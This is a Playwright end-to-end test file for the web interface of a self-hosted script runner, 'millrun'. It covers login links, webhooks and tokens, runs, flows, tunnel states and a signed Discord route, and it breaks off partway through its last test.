// A new user's first minutes, in a real browser: log in with the one-time
// URL, write a script, copy its sync URL, call it, watch the run appear
// live, open it; then make a webhook token and check its secret is never
// shown again. Screenshots of every page go to test-results/.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { chromium, request as playwrightRequest } from "playwright-core";
import { execFileSync } from "node:child_process";
import crypto from "node:crypto";

const loginUrl = process.env.LOGIN_URL;
const base = new URL(loginUrl).origin;
const shots = process.env.SHOTS;
const dataDir = process.env.DATA_DIR; // this server's data folder
let browser, context, page;
const pageErrors = []; // a raw JavaScript error must never reach the user

before(async () => {
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM,
    args: ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
      "--disable-component-update", "--disable-sync"],
  });
  context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  await context.grantPermissions(["clipboard-read", "clipboard-write"], { origin: base });
  page = await context.newPage();
  page.on("pageerror", (e) => {
    console.error("page error:", e.message);
    pageErrors.push(e.message);
  });
});

after(async () => {
  await browser?.close();
});

const shot = (name) => page.screenshot({ path: `${shots}/${name}.png`, fullPage: true });

let syncUrl = "";
let webhookToken = "";
const scriptName = `hello_e2e`;

test("the one-time login URL logs in and shows the empty Scripts page", async () => {
  await page.goto(loginUrl);
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.equal(new URL(page.url()).search, "", "the token must not stay in the address bar");
  await page.getByText("No scripts yet").waitFor();
  await shot("01-scripts-empty");
  // The link works once; opened again in this browser, logged in, it
  // leads into the app instead of a dead end.
  const stranger = await playwrightRequest.newContext();
  const again = await stranger.get(loginUrl, { maxRedirects: 0 });
  assert.equal(again.status(), 401);
  assert.match(again.headers()["content-type"], /text\/html/);
  assert.match(await again.text(), /A login link works once/);
  assert.ok((await again.text()).includes(`millrun token create --data ${dataDir} --label browser`), "the page names this server's data folder");
  await stranger.dispose();
  await page.goto(loginUrl);
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  assert.equal(new URL(page.url()).pathname, "/");
});

test("the login page gives the command for this server's data folder and tells another folder's token apart", async () => {
  const command = `millrun token create --data ${dataDir} --label browser`;
  const anon = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const p = await anon.newPage();
  try {
    await p.goto(base + "/");
    await p.getByTestId("token-command").filter({ hasText: command }).waitFor();
    await p.getByLabel("Token").fill("n0suchtoken0000000000000000000000");
    await p.getByRole("button", { name: "Log in" }).click();
    const alert = p.getByRole("alert");
    await alert.filter({ hasText: "unknown token" }).waitFor();
    assert.match(await alert.textContent(), /Make one for this millrun with the command above/);
    // Made without --data: in the default folder, not this server's.
    const made = execFileSync(process.env.MILLRUN_BIN, ["token", "create", "--data", process.env.MILLRUN_DATA, "--label", "browser"], { stdio: ["ignore", "pipe", "ignore"] });
    await p.getByLabel("Token").fill(made.toString().trim().split("\n").pop());
    await p.getByRole("button", { name: "Log in" }).click();
    await alert.filter({ hasText: "this token belongs to another millrun data folder" }).waitFor();
    await p.screenshot({ path: `${shots}/00-login-other-folder.png`, fullPage: true });
  } finally {
    await anon.close();
  }
});

test("a new Python script is saved and gets its webhook URLs", async () => {
  await page.getByRole("button", { name: "Create your first script" }).click();
  const path = page.locator("#path");
  const prefilled = await path.inputValue();
  assert.match(prefilled, /^u\/[a-z0-9_.-]+\/$/, "path prefilled with u/<os user>/");
  await path.fill(prefilled + scriptName);
  await page.locator(".cm-content").waitFor(); // the editor loads lazily
  await shot("02-new-script");
  await page.keyboard.press("Control+s");
  await page.getByTestId("sync-path-url").waitFor();
  syncUrl = (await page.getByTestId("sync-path-url").textContent()).trim();
  assert.equal(syncUrl, `${base}/api/w/local/jobs/run_wait_result/p/${prefilled}${scriptName}`);
  assert.match(await page.getByTestId("sync-hash-url").textContent(), /run_wait_result\/h\/[0-9a-f]{16}$/);
  const copy = page.locator(".url", { has: page.getByTestId("sync-path-url") }).getByRole("button", { name: "Copy" });
  await copy.click();
  await page.getByRole("button", { name: "Copied ✓" }).first().waitFor();
  assert.equal(await page.evaluate(() => navigator.clipboard.readText()), syncUrl);
  await shot("03-script-webhooks");
});

test("a webhook token is made in one click and shown once", async () => {
  await page.getByRole("button", { name: "Create a token for this webhook" }).click();
  webhookToken = (await page.getByTestId("new-webhook-token").textContent()).trim();
  assert.match(webhookToken, /^[A-Za-z0-9]{32}$/);
  assert.ok((await page.getByTestId("curl-snippet").textContent()).includes(`Bearer ${webhookToken}`), "the snippet uses the new token");
  await shot("04-webhook-token");
});

test("calling the sync URL runs the script and the run appears live", async () => {
  await page.goto(`${base}/#/runs`);
  await page.getByRole("heading", { name: "Runs" }).waitFor();
  await page.getByText("No runs yet").waitFor();
  const res = await fetch(syncUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ name: "e2e" }),
  });
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { greeting: "hello e2e" });
  const row = page.getByTestId("run-row").first();
  await row.waitFor({ timeout: 10000 }); // pushed by the server, no reload
  await page.getByTestId("run-row").first().locator(".badge.success").waitFor({ timeout: 10000 });
  await shot("05-runs");
  await row.click();
  await page.getByTestId("detail-result").waitFor();
  assert.deepEqual(JSON.parse(await page.getByTestId("detail-result").textContent()), { greeting: "hello e2e" });
  assert.match(await page.getByTestId("detail-logs").textContent(), /saying hello to e2e/);
  await shot("06-run-detail");
});

test("the script can be run from its page with live logs", async () => {
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.locator("#arg-name").fill("form");
  await page.getByRole("button", { name: "Run", exact: true }).click();
  await page.getByTestId("run-result").waitFor({ timeout: 15000 });
  assert.deepEqual(JSON.parse(await page.getByTestId("run-result").textContent()), { greeting: "hello form" });
  assert.match(await page.getByTestId("run-logs").textContent(), /saying hello to form/);
  await shot("07-run-form");
});

test("the token's secret is never shown again", async () => {
  await page.goto(`${base}/#/tokens`);
  await page.getByTestId("token-row").first().waitFor();
  const html = await page.content();
  assert.ok(!html.includes(webhookToken), "the Tokens page shows the secret");
  assert.ok(html.includes(webhookToken.slice(0, 10)), "the Tokens page shows the prefix");
  await shot("08-tokens");
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.getByTestId("sync-path-url").waitFor();
  assert.ok(!(await page.content()).includes(webhookToken), "the script page shows the secret after a reload");
});

test("the Scripts list shows each script's last run and run count live", async () => {
  await page.goto(`${base}/#/scripts`);
  const row = page.locator("tr", { hasText: scriptName });
  await row.waitFor();
  const runs = async () => Number((await row.locator("td").nth(4).textContent()).trim());
  const before = await runs();
  const res = await fetch(syncUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ name: "list" }),
  });
  assert.equal(res.status, 200);
  await page.waitForFunction(
    ([name, n]) => [...document.querySelectorAll("tr")].some((tr) => tr.textContent.includes(name) && tr.cells[4]?.textContent.trim() === String(n)),
    [scriptName, before + 1],
    { timeout: 10000 },
  );
  assert.equal(await row.locator(".badge.success").count(), 1);
  await shot("12-scripts-list");
});

test("the tunnel's IP allowlist is checked in words and kept", async () => {
  await page.goto(`${base}/#/tunnel`);
  await page.locator("#allow").fill("203.0.113.9\nslack.com");
  await page.getByRole("button", { name: "Save" }).click();
  await page.getByRole("alert").filter({ hasText: '"slack.com" is neither an IP address nor a CIDR range' }).waitFor();
  await page.locator("#allow").fill("203.0.113.9\n198.51.100.0/24");
  await page.getByRole("button", { name: "Save" }).click();
  await page.waitForFunction(() => document.querySelector("#allow").value === "203.0.113.9/32\n198.51.100.0/24");
  await page.reload();
  await page.waitForFunction(() => document.querySelector("#allow")?.value === "203.0.113.9/32\n198.51.100.0/24");
  // Back to open, for the tests after this one.
  await page.locator("#allow").fill("");
  await page.getByRole("button", { name: "Save" }).click();
  await page.waitForFunction(() => document.querySelector("#allow").value === "");
});

test("settings, tunnel and flows pages render", async () => {
  await page.goto(`${base}/#/settings`);
  await page.getByRole("heading", { name: "Interpreters" }).waitFor();
  // The address is shown as it is, with the command that sets it.
  assert.ok((await page.getByTestId("listen-address").textContent()).includes(`--listen ${new URL(base).host}`));
  assert.equal(await page.locator("#s5").inputValue(), "10", "body limit shown in MiB");
  await shot("09-settings");
  await page.goto(`${base}/#/tunnel`);
  await page.getByTestId("tunnel-state").waitFor();
  assert.equal((await page.getByTestId("tunnel-state").textContent()).trim(), "off");
  // Pasting an authtoken is enough to start: one click saves and starts
  // (not clicked here: tests never reach the internet).
  const startButton = page.getByRole("button", { name: "Save and start" });
  await page.locator("#authtoken").fill("2abcDEFfake_authtoken_for_the_button_only");
  assert.equal(await startButton.isEnabled(), true);
  await page.locator("#authtoken").fill("");
  await shot("10-tunnel");
  await page.goto(`${base}/#/flows`);
  await page.getByText("No flows yet").waitFor();
  await shot("11-flows");
});

test("a 900 px window and dark mode keep every page usable", async () => {
  await page.setViewportSize({ width: 900, height: 700 });
  await page.emulateMedia({ colorScheme: "dark" });
  const scriptPage = syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/");
  for (const [name, url, ready] of [
    ["scripts", `${base}/#/scripts`, () => page.getByRole("button", { name: "New script" })],
    ["script", scriptPage, () => page.getByTestId("sync-path-url")],
    ["runs", `${base}/#/runs`, () => page.getByTestId("run-row").first()],
    ["tokens", `${base}/#/tokens`, () => page.getByTestId("token-row").first()],
    ["settings", `${base}/#/settings`, () => page.getByRole("heading", { name: "Interpreters" })],
    ["requests", `${base}/#/requests`, () => page.getByTestId("request-row").first()],
    ["tunnel", `${base}/#/tunnel`, () => page.getByTestId("tunnel-state")],
    ["new-flow", `${base}/#/flows/new`, () => page.getByTestId("flow-step").first()],
    ["new-script", `${base}/#/scripts/new`, () => page.locator(".cm-content")],
    ["variables", `${base}/#/variables`, () => page.getByRole("heading", { name: "New variable" })],
    ["schedules", `${base}/#/schedules`, () => page.getByRole("heading", { name: "Schedules" })],
  ]) {
    await page.goto(url);
    await ready().waitFor();
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    assert.ok(overflow <= 0, `${name}: the page is ${overflow}px wider than a 900px window`);
    // Every button is inside the window (none cut off at the right).
    const cut = await page.evaluate(() => [...document.querySelectorAll("button")]
      .filter((b) => b.offsetParent !== null && b.getBoundingClientRect().right > window.innerWidth + 0.5)
      .map((b) => b.getAttribute("aria-label") || b.textContent.trim()));
    assert.deepEqual(cut, [], `${name}: buttons cut off at 900px`);
    await shot(`13-small-dark-${name}`);
  }
  const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  const [r, g, b] = bg.match(/\d+/g).map(Number);
  assert.ok(r + g + b < 150, `dark mode background is ${bg}`);
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
});

// The tunnel itself is tested in Go against a loopback fake (tests never
// reach the internet); here its states, as the server pushes them, drive
// the UI: the public URLs in the webhook panel, the Tunnel page, the badge.
test("a tunnel going online shows public URLs; its errors show in plain words", async () => {
  const pushTunnel = (...states) =>
    page.route("**/api/millrun/tunnel/events", (route) =>
      route.fulfill({
        status: 200,
        contentType: "text/event-stream",
        body: "retry: 60000\n\n" + states.map((s) => `event: status\ndata: ${JSON.stringify({
          since: new Date().toISOString(), authtoken_hint: "2ab…xyz", authtoken_source: "settings", domain: "", autostart: false, ...s,
        })}\n\n`).join(""),
      }));
  const publicBase = "https://millrun-e2e.ngrok.app";
  await pushTunnel({ state: "connecting" }, { state: "online", url: publicBase });
  const scriptPage = syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/");
  await page.goto(scriptPage);
  await page.reload(); // the tunnel watch starts with the app
  const pub = page.getByTestId("public-sync-path-url");
  await pub.waitFor();
  assert.equal((await pub.textContent()).trim(), syncUrl.replace(base, publicBase));
  await page.getByRole("link", { name: "tunnel online" }).waitFor();
  await shot("14-public-urls");
  await page.goto(`${base}/#/tunnel`);
  assert.equal((await page.getByTestId("tunnel-state").textContent()).trim(), "online");
  await page.getByText(publicBase).first().waitFor();
  await page.unroute("**/api/millrun/tunnel/events");

  const reason = "ngrok rejected the authtoken: check it at dashboard.ngrok.com (ERR_NGROK_105)";
  await pushTunnel({ state: "error", error: reason });
  await page.reload();
  await page.getByRole("alert").filter({ hasText: reason }).waitFor();
  await shot("15-tunnel-error");
  await page.unroute("**/api/millrun/tunnel/events");
  await page.reload(); // back to the real state: off
  assert.equal((await page.getByTestId("tunnel-state").textContent()).trim(), "off");
});

test("a flow is written, answers early through its webhook, and its steps show on the run page", async () => {
  await page.goto(`${base}/#/flows`);
  await page.getByRole("button", { name: "Create a flow" }).click();
  const fpath = page.locator("#fpath");
  await fpath.fill((await fpath.inputValue()) + "e2e_flow");
  // Steps are cards: the example's two, the first answering the caller.
  const cards = page.getByTestId("flow-step");
  await cards.nth(1).waitFor();
  assert.equal(await cards.count(), 2);
  assert.equal(await cards.nth(0).getByRole("checkbox", { name: /Answer the caller/ }).isChecked(), true);
  assert.equal(await cards.nth(0).getByRole("textbox", { name: "Value of text" }).inputValue(), "flow_input.text");
  await page.getByRole("combobox", { name: "Kind of step to add", exact: true }).selectOption("bash");
  await page.getByRole("button", { name: "Add a step", exact: true }).click();
  assert.equal(await cards.count(), 3);
  await cards.nth(2).getByRole("textbox", { name: "Id" }).fill("2bad");
  await page.getByTestId("flow-problem").filter({ hasText: "letters, digits" }).waitFor();
  // The JSON view edits the same definition; a broken one is refused
  // before it reaches the server.
  page.once("dialog", (d) => d.accept());
  await cards.nth(2).getByRole("button", { name: /Remove step/ }).click();
  await page.getByRole("tab", { name: /JSON/ }).click();
  const def = page.locator("#fdef");
  const example = await def.inputValue();
  assert.ok(!example.includes("2bad"), "the removed step is gone from the JSON too");
  await def.fill(example + "}");
  await page.getByText("Not valid JSON yet").waitFor();
  assert.equal(await page.getByRole("button", { name: "Save" }).isDisabled(), true);
  await def.fill(example);
  await page.getByRole("tab", { name: "Steps" }).click();
  await cards.nth(1).waitFor();
  await page.getByRole("button", { name: "Save" }).click();
  const url = page.getByTestId("sync-path-url");
  await url.waitFor();
  const flowUrl = (await url.textContent()).trim();
  assert.match(flowUrl, /\/api\/w\/local\/jobs\/run_wait_result\/f\/u\/[^/]+\/e2e_flow$/);
  await shot("16-flow");

  const res = await fetch(flowUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ text: "deploy" }),
  });
  // The webhook token is scoped to the script, not this flow.
  assert.equal(res.status, 401);
  await page.getByRole("button", { name: "Create a token for this webhook" }).click();
  const flowToken = (await page.getByTestId("new-webhook-token").textContent()).trim();
  const ok = await fetch(flowUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${flowToken}` },
    body: JSON.stringify({ text: "deploy" }),
  });
  assert.equal(ok.status, 200);
  assert.deepEqual(await ok.json(), { text: "on it: deploy" }, "the early return's result");
  // The example works when called exactly as its own curl snippet says.
  const curl = (await page.getByTestId("curl-snippet").textContent()).trim();
  assert.ok(curl.includes(`Bearer ${flowToken}`) && curl.includes("-d '{\"text\":\"\"}'"), curl);
  assert.deepEqual(JSON.parse(execFileSync("sh", ["-c", curl + " -sS --fail-with-body"], { encoding: "utf8" })), { text: "on it: " });

  await page.goto(`${base}/#/runs`);
  await page.getByTestId("run-row").filter({ hasText: "e2e_flow" }).first().click();
  const steps = page.locator("section", { has: page.getByRole("heading", { name: "Steps" }) });
  await steps.locator("tr", { hasText: "ack" }).waitFor();
  await steps.locator("tr", { hasText: "work" }).locator(".badge.success").waitFor({ timeout: 15000 });
  assert.match(await page.getByTestId("early-answer").textContent(), /answered after \d+ ms, at step ack/);
  await shot("17-flow-run");
  await steps.locator("tr", { hasText: "work" }).getByRole("link", { name: "open step" }).click();
  await page.getByTestId("detail-logs").filter({ hasText: "working" }).waitFor();
});

test("a for loop with a branch inside is built by clicking and with the keyboard, tested unsaved, saved, run by its webhook", async () => {
  await page.goto(`${base}/#/flows/new`);
  const fpath = page.locator("#fpath");
  await fpath.fill((await fpath.inputValue()) + "e2e_loop");
  const cards = page.getByTestId("flow-step");
  await cards.nth(1).waitFor();
  // This flow answers with its loop's results, not early.
  await cards.nth(0).getByRole("checkbox", { name: /Answer the caller/ }).uncheck();
  // A for loop, added from the keyboard.
  await page.getByRole("combobox", { name: "Kind of step to add", exact: true }).focus();
  await page.getByRole("combobox", { name: "Kind of step to add", exact: true }).selectOption("forloopflow");
  await page.keyboard.press("Tab");
  await page.keyboard.press("Enter");
  const loop = page.getByRole("group", { name: /^Step 3: for loop/ });
  await loop.waitFor();
  assert.equal(await loop.getByRole("textbox", { name: "For each item of" }).inputValue(), "flow_input.items");
  // Inside it, after the step that takes the item, a branch to one.
  await loop.getByRole("combobox", { name: "Kind of step to add in loop loop1" }).selectOption("branchone");
  await loop.getByRole("button", { name: "Add a step in loop loop1" }).click();
  const branch = page.getByRole("group", { name: /^Inner step 2: branch to one/ });
  await branch.waitFor();
  await branch.getByLabel("Runs if").fill("flow_input.iter.value > 1");
  const [first, otherwise] = [branch.getByTestId("flow-branch").first(), branch.getByTestId("flow-branch").last()];
  await first.getByRole("textbox", { name: "Value of previous" }).fill('"big " + flow_input.iter.value');
  await otherwise.getByRole("textbox", { name: "Value of previous" }).fill("flow_input.iter.value");
  await page.getByTestId("flow-problem").waitFor({ state: "detached" });

  // Tested as it is, unsaved, through preview_flow.
  await page.locator("#test-args").fill('{"text": "x", "items": [1, 2]}');
  await page.getByRole("button", { name: "Test the flow" }).click();
  await page.getByTestId("test-status").filter({ hasText: "success" }).waitFor({ timeout: 30000 });
  assert.deepEqual(JSON.parse(await page.getByTestId("test-result").textContent()), [1, "big 2"]);
  await page.getByTestId("test-steps").locator("tr", { hasText: "loop1" }).filter({ hasText: "2 runs" }).waitFor();
  await page.setViewportSize({ width: 1280, height: 800 });
  await loop.scrollIntoViewIfNeeded();
  await page.screenshot({ path: `${shots}/18-flow-loop-branch.png` });
  await page.getByTestId("test-result").scrollIntoViewIfNeeded();
  await page.screenshot({ path: `${shots}/19-flow-test.png` });
  await page.setViewportSize({ width: 900, height: 700 });
  await page.emulateMedia({ colorScheme: "dark" });
  await branch.scrollIntoViewIfNeeded();
  const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
  assert.ok(overflow <= 0, `the flow editor is ${overflow}px wider than a 900px window`);
  await page.screenshot({ path: `${shots}/20-flow-loop-branch-dark.png` });
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });

  await page.getByRole("button", { name: "Save", exact: true }).click();
  const url = page.getByTestId("sync-path-url");
  await url.waitFor();
  // Opened from the server, the loop and its branch are cards again.
  await page.getByRole("group", { name: /^Inner step 2: branch to one/ }).waitFor();
  await page.getByRole("button", { name: "Create a token for this webhook" }).click();
  const token = (await page.getByTestId("new-webhook-token").textContent()).trim();
  const res = await fetch((await url.textContent()).trim(), {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${token}` },
    body: JSON.stringify({ items: [1, 2, 3] }),
  });
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), [1, "big 2", "big 3"]);

  await page.goto(`${base}/#/runs`);
  await page.getByTestId("run-row").filter({ hasText: "e2e_loop" }).first().click();
  const steps = page.locator("section", { has: page.getByRole("heading", { name: "Steps" }) });
  await steps.locator("tr", { hasText: "loop1" }).filter({ hasText: "3 runs" }).waitFor();
  await steps.locator("tr", { hasText: "ack" }).locator(".badge.success").waitFor();
  await shot("21-flow-loop-run");
});

test("a flow pushed with every option is saved back from the editor unchanged", async () => {
  const user = new URL(syncUrl).pathname.split("/")[8];
  const flowPath = `u/${user}/e2e_every`;
  const code = (content, input = {}) => ({ type: "rawscript", language: "python3", content, input_transforms: input });
  const pushed = {
    path: flowPath, summary: "every option", description: "as wmill sync pushes it", tag: "flows", timeout: 600, ws_error_handler_muted: true,
    schema: { $schema: "https://json-schema.org/draft/2020-12/schema", type: "object", order: ["items"], required: [],
      properties: { items: { type: "array", description: "what to go over", default: [1, 2] } } },
    value: {
      notes: [{ id: "n1", text: "a sticky note" }], concurrent_limit: 2, same_worker: false, early_return: "first",
      failure_module: { id: "failure", value: code("def main(error: dict = None):\n    return error\n", { error: { type: "javascript", expr: "error" } }) },
      modules: [
        { id: "first", summary: "with every option", value: { ...code("def main(x=None):\n    return x\n", { x: { type: "javascript", expr: "flow_input.items" } }), lock: "# py: 3.11\n" },
          retry: { constant: { attempts: 0, seconds: 0 }, exponential: { attempts: 2, multiplier: 1, seconds: 1, random_factor: 0 } },
          timeout: { type: "static", value: 30 }, sleep: { type: "static", value: 0 }, skip_if: { expr: "false" },
          stop_after_if: { expr: "false", skip_if_stopped: true, error_message: "stopped" }, continue_on_error: true, cache_ttl: 60,
          mock: { enabled: false, return_value: 1 }, suspend: { required_events: 1, timeout: 60, resume_form: { schema: { properties: {} } } } },
        { id: "each", value: { type: "forloopflow", iterator: { type: "javascript", expr: "flow_input.items" }, skip_failures: true, parallel: true,
          parallelism: { type: "static", value: 2 },
          modules: [{ id: "pick", value: { type: "branchone", branches: [{ summary: "big", expr: "flow_input.iter.value > 1",
            modules: [{ id: "hello", value: { type: "script", path: new URL(syncUrl).pathname.split("/p/")[1], input_transforms: {} } }] }],
            default: [{ id: "small", value: { type: "identity" } }] } }] }, stop_after_all_iters_if: { expr: "false", skip_if_stopped: false } },
        { id: "both", value: { type: "branchall", parallel: false, branches: [
          { summary: "a", skip_failure: true, modules: [{ id: "again", value: { type: "whileloopflow", skip_failures: false,
            modules: [{ id: "sub", value: { type: "flow", path: `u/${user}/e2e_flow`, input_transforms: {} } }] }, stop_after_if: { expr: "true", skip_if_stopped: false } }] },
          { summary: "b", modules: [{ id: "pass", value: { type: "identity" } }] }] } },
      ],
    },
  };
  const api = (method, path, body) => page.evaluate(async ([method, path, body]) => {
    const r = await fetch(path, { method, headers: { "Content-Type": "application/json" }, body: body && JSON.stringify(body) });
    return { status: r.status, text: await r.text() };
  }, [method, path, body]);
  const created = await api("POST", "/api/w/local/flows/create", pushed);
  assert.equal(created.status, 201, created.text);
  const before = JSON.parse((await api("GET", `/api/w/local/flows/get/${flowPath}`)).text);
  await page.goto(`${base}/#/flows/${flowPath}`);
  await page.getByRole("group", { name: /^Inner step 1: branch to one/ }).waitFor();
  await page.getByTestId("options-set").first().filter({ hasText: "retry 2× (exponential)" }).waitFor();
  // Through the YAML view and back, then saved.
  await page.getByRole("tab", { name: /YAML/ }).click();
  assert.match(await page.locator("#fdef").inputValue(), /a sticky note/);
  await page.getByRole("tab", { name: "Steps" }).click();
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await page.getByText("Saved.").waitFor();
  const after = JSON.parse((await api("GET", `/api/w/local/flows/get/${flowPath}`)).text);
  delete before.edited_at;
  delete after.edited_at;
  assert.deepEqual(after, before, "opening and saving changed the flow");
  for (const [k, v] of Object.entries(pushed)) assert.deepEqual(after[k], v, k);
});

test("Settings pauses all schedules at a tick, as the status icon does; a failed package install shows at its import", async () => {
  await page.goto(`${base}/#/settings`);
  const pause = page.getByRole("checkbox", { name: "Pause all schedules" });
  await pause.check();
  await page.getByTestId("schedules-paused-status").filter({ hasText: "Paused" }).waitFor();
  const api = (method, path, body) => page.evaluate(async ([method, path, body]) => {
    const r = await fetch(path, { method, headers: { "Content-Type": "application/json" }, body: body && JSON.stringify(body) });
    return { status: r.status, text: await r.text() };
  }, [method, path, body]);
  assert.equal(JSON.parse((await api("GET", "/api/millrun/settings")).text).settings.schedules_paused, true);
  await page.reload();
  assert.equal(await pause.isChecked(), true);
  await pause.uncheck();
  await page.getByTestId("schedules-paused-status").filter({ hasText: "run again" }).waitFor();
  assert.equal(JSON.parse((await api("GET", "/api/millrun/settings")).text).settings.schedules_paused, false);

  // Tests reach no package index: the import's package cannot be installed.
  const user = new URL(syncUrl).pathname.split("/")[8];
  const path = `u/${user}/e2e_lock`;
  const made = await api("POST", "/api/w/local/scripts/create", { path, language: "python3", summary: "", description: "",
    content: "import os\nimport requestz\n\ndef main():\n    return requestz.get('x')\n" });
  assert.equal(made.status, 201, made.text);
  for (let i = 0; ; i++) {
    const got = JSON.parse((await api("GET", `/api/w/local/scripts/get/p/${path}`)).text);
    if (got.lock_error_logs) break;
    assert.ok(i < 100, "the package resolution did not fail in 20 s");
    await page.waitForTimeout(200);
  }
  await page.goto(`${base}/#/scripts/${path}`);
  const at = page.getByTestId("syntax-error-at-line");
  await at.filter({ hasText: "Its packages could not be installed" }).waitFor();
  assert.match(await page.locator(".cm-problem-line").textContent(), /import requestz/);
  await shot("22-lock-error-at-import");
});

test("Runs filters find by part of a path, count what they hide, and stay in the URL across navigation", async () => {
  await page.goto(`${base}/#/scripts`);
  await page.getByRole("link", { name: "Runs", exact: true }).click();
  const box = page.getByRole("textbox", { name: "Filter by path" });
  const status = page.getByRole("combobox", { name: "Filter by status" });
  const rows = page.getByTestId("run-row");
  await rows.first().waitFor();
  const paths = async () => (await rows.locator("td:nth-child(2)").allTextContents()).map((t) => t.trim());
  // A part of the path, as typed (no Enter): substring and prefix.
  await box.fill("ello_e2");
  await page.waitForFunction(() => [...document.querySelectorAll("[data-testid=run-row]")].every((r) => r.textContent.includes("hello_e2e")));
  assert.ok((await paths()).length >= 2, "the script's runs are found by a part of its name");
  assert.match(new URL(page.url()).hash, /^#\/runs\?(.*&)?path=ello_e2/);
  await box.fill(syncUrl.split("/p/")[1].split("/").slice(0, 2).join("/") + "/hel");
  await page.waitForFunction(() => [...document.querySelectorAll("[data-testid=run-row]")].every((r) => r.textContent.includes("hello_e2e")));
  // Nothing matches: how many runs there are in all, not "No runs yet".
  await box.fill("no_such_script_zz");
  const empty = page.getByTestId("runs-empty");
  await empty.filter({ hasText: "No runs match these filters" }).waitFor();
  const total = Number((await empty.textContent()).match(/\((\d+) runs? in all\)/)?.[1]);
  assert.ok(total >= 3, `the empty state counts every run: ${await empty.textContent()}`);
  await shot("29-runs-no-match");
  // Filters survive opening a run and coming back, by link and by Back.
  await box.fill("hello_e2e");
  await status.selectOption("success");
  await page.waitForFunction(() => /status=success/.test(location.hash));
  await rows.first().waitFor();
  await rows.first().getByRole("link").click();
  await page.getByTestId("detail-result").waitFor();
  await page.getByRole("link", { name: "← Runs" }).click();
  await rows.first().waitFor();
  assert.equal(await box.inputValue(), "hello_e2e");
  assert.equal(await status.inputValue(), "success");
  await rows.first().getByRole("link").click();
  await page.getByTestId("detail-result").waitFor();
  await page.goBack();
  await rows.first().waitFor();
  assert.equal(await box.inputValue(), "hello_e2e");
  // And going elsewhere and back through the menu.
  await page.getByRole("link", { name: "Scripts", exact: true }).click();
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  await page.getByRole("link", { name: "Runs", exact: true }).click();
  await rows.first().waitFor();
  assert.equal(await box.inputValue(), "hello_e2e");
  assert.equal(await status.inputValue(), "success");
  await shot("30-runs-filtered");
  await page.getByRole("button", { name: "Clear filters" }).click();
  await page.waitForFunction(() => location.hash === "#/runs");
  assert.equal(await box.inputValue(), "");
});

test("a warm worker is switched on with a plain warning and shows in the list", async () => {
  const scriptPage = syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/");
  await page.goto(scriptPage);
  await page.getByTestId("sync-path-url").waitFor();
  await page.getByLabel(/Warm worker/).check();
  await page.getByText("module-level variables keep their values").waitFor();
  await page.keyboard.press("Control+s");
  await page.getByText(/Saved/).first().waitFor();
  const res = await fetch(syncUrl, {
    method: "POST",
    headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` },
    body: JSON.stringify({ name: "warm" }),
  });
  assert.deepEqual(await res.json(), { greeting: "hello warm" });
  await page.goto(`${base}/#/scripts`);
  await page.locator("tr", { hasText: scriptName }).locator(".badge", { hasText: "warm" }).waitFor();
  await shot("18-warm");
});

test("a Discord route is made in a few clicks and answers Discord's checks itself", async () => {
  const { publicKey, privateKey } = crypto.generateKeyPairSync("ed25519");
  const pubHex = Buffer.from(publicKey.export({ format: "jwk" }).x, "base64url").toString("hex");
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  await page.getByRole("button", { name: "Add a route" }).click();
  await page.locator("#route-auth").selectOption("discord");
  assert.equal(await page.locator("#route-path").inputValue(), `discord/${scriptName}`);
  await page.locator("#route-secret").fill("not-a-key");
  await page.getByTestId("route-problem").filter({ hasText: "64 hexadecimal" }).waitFor();
  assert.equal(await page.getByRole("button", { name: "Create route" }).isDisabled(), true);
  await page.locator("#route-secret").fill(pubHex);
  await page.getByRole("button", { name: "Create route" }).click();
  const routeUrl = (await page.getByTestId("route-url").first().textContent()).trim();
  assert.equal(routeUrl, `${base}/api/r/discord/${scriptName}`);
  await page.getByTestId("route-row").getByText("Discord signature").waitFor();
  await shot("19-route");

  const signed = (body) => {
    const ts = String(Math.floor(Date.now() / 1000));
    return { "Content-Type": "application/json", "X-Signature-Timestamp": ts,
      "X-Signature-Ed25519": crypto.sign(null, Buffer.from(ts + body), privateKey).toString("hex") };
  };
  const ping = JSON.stringify({ type: 1, id: "1" });
  let res = await fetch(routeUrl, { method: "POST", headers: signed(ping), body: ping });
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { type: 1 });
  const forged = { ...signed(ping), "X-Signature-Ed25519": "00".repeat(64) };
  res = await fetch(routeUrl, { method: "POST", headers: forged, body: ping });
  assert.equal(res.status, 401, "Discord requires bad signatures to be refused");
